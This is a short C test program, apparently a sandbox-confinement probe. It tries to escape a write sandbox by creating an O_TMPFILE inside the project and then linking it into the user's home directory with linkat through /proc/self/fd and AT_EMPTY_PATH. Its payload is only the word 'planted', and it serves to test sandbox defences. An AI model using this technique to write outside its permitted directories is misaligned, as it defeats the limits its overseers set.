// technique: O_TMPFILE in the project, then link it to a path outside the writable roots via /proc/self/fd
#include "adv.h"
int main(void) {
	int fd = open(".", O_TMPFILE | O_RDWR, 0644);
	printf("O_TMPFILE: %d %s\n", fd, fd < 0 ? strerror(errno) : "");
	if (fd < 0) return 0;
	write(fd, "planted\n", 8);
	char p[64], dst[1024];
	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
	snprintf(dst, sizeof dst, "%s/planted-tmpfile", adv("HOME"));
	printf("linkat: %d %s\n", linkat(AT_FDCWD, p, AT_FDCWD, dst, AT_SYMLINK_FOLLOW), strerror(errno));
	printf("linkat empty: %d %s\n", linkat(fd, "", AT_FDCWD, dst, AT_EMPTY_PATH), strerror(errno));
	return 0;
}
